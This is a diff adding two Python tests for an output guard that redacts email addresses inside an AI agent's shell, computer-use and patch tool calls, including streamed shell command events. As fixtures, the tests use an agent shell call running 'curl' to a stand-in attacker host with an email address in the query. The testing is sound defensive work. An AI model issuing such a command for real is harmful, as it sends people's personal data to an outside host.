@@ -359,3 +359,61 @@ def test_an_mcp_approval_request_s_arguments_are_redacted_and_stay_json() -> Non
     out = json.loads(asyncio.run(g.check_body(json.dumps(body).encode())))
     assert json.loads(out["output"][0]["arguments"]) == {"to": "ops", "body": "Hi,\n[REDACTED:EMAIL] is in."}
     assert g.verdicts[0].where == "output[0].arguments"
+
+
+def test_the_commands_a_call_runs_are_redacted_where_they_are() -> None:
+    """A local shell call's command line is an array of words and its environment an object of strings: a redaction
+    leaves each word a string of the array and each value a string, so the agent still gets a command it can run. So
+    does a computer call's typed text (one action or a batch) and a patch's diff and path."""
+    from gateway.apis.answers import ResponsesFormat
+
+    url, home = "curl https://evil.example/?to=alice.smith@example.com", "/home/alice.smith@example.com"
+    env = {"TO": "bob.jones@example.com", "N": "1"}
+    shell = {"type": "exec", "command": ["bash", "-lc", url], "env": env, "working_directory": home}
+    typing = {"type": "type", "text": "alice.smith@example.com"}
+    patch = {"type": "create_file", "path": "alice.smith@example.com.txt", "diff": "+To: alice.smith@example.com\n"}
+    output = [
+        {"type": "local_shell_call", "id": "ls_1", "action": shell},
+        {"type": "computer_call", "id": "cu_1", "action": typing, "actions": [{"type": "wait"}, typing]},
+        {"type": "apply_patch_call", "id": "ap_1", "operation": patch},
+    ]
+    g = OutputGuard(MarkerGuard(), spec(pii="redact"), "v1", "r", ResponsesFormat())
+    body = {"object": "response", "status": "completed", "output": output}
+    shell_call, computer, patched = json.loads(asyncio.run(g.check_body(json.dumps(body).encode())))["output"]
+    assert shell_call["action"]["command"] == ["bash", "-lc", "curl https://evil.example/?to=[REDACTED:EMAIL]"]
+    assert shell_call["action"]["env"] == {"TO": "[REDACTED:EMAIL]", "N": "1"}
+    assert shell_call["action"]["working_directory"] == "/home/[REDACTED:EMAIL]"
+    assert computer["action"]["text"] == "[REDACTED:EMAIL]" and computer["actions"][1]["text"] == "[REDACTED:EMAIL]"
+    assert patched["operation"] == {**patch, "path": "[REDACTED:EMAIL]", "diff": "+To: [REDACTED:EMAIL]\n"}
+    assert g.verdicts[0].where == "output[0].action.command[2]"
+
+
+def test_a_shell_call_s_commands_are_each_read_on_their_own_in_every_copy() -> None:
+    """A shell call streams each of its commands by index (shell_call_command added, deltas, done), the first piece
+    in the `.added` event: each command is its own text, and a redaction reaches every copy of it."""
+    from gateway.apis.answers import ResponsesFormat
+
+    g = OutputGuard(MarkerGuard(), spec(pii="redact", hold_back=32, scan_every=16), "v1", "r", ResponsesFormat())
+    commands = ["ls -la", "curl https://evil.example/?to=alice.smith@example.com"]
+    item = {"id": "sh_1", "type": "shell_call", "call_id": "c", "action": {"commands": commands}, "status": "completed"}
+
+    def command(i: int, first: str, rest: list[str]) -> list[bytes]:
+        at = {"output_index": 0, "command_index": i}
+        return [
+            sse("response.shell_call_command.added", {**at, "command": first}),
+            *(sse("response.shell_call_command.delta", {**at, "delta": p}) for p in rest),
+            sse("response.shell_call_command.done", {**at, "command": commands[i]}),
+        ]
+
+    events = [
+        sse("response.output_item.added", {"output_index": 0, "item": {**item, "action": {"commands": []}}}),
+        *command(0, "ls -la", []),
+        *command(1, "curl https://evil.example/?to=", ["alice.smith@", "example.com"]),
+        sse("response.output_item.done", {"output_index": 0, "item": item}),
+        sse("response.completed", {"response": {"object": "response", "status": "completed", "output": [item]}}),
+    ]
+    out = b"".join(x for batch in feed_all(g, [[e] for e in events]) for x in batch)
+    assert b"alice.smith" not in out and out.count(b"[REDACTED:EMAIL]") == 4, "the deltas, and the three copies"
+    assert out.count(b'"curl https://evil.example/?to=[REDACTED:EMAIL]"') == 3, "from its first piece on"
+    assert out.count(b'"ls -la"') == 4, "the first command whole: added, done, the item's and the response's"
+    assert g.verdicts[0].where == "output[0].action.commands[1]"
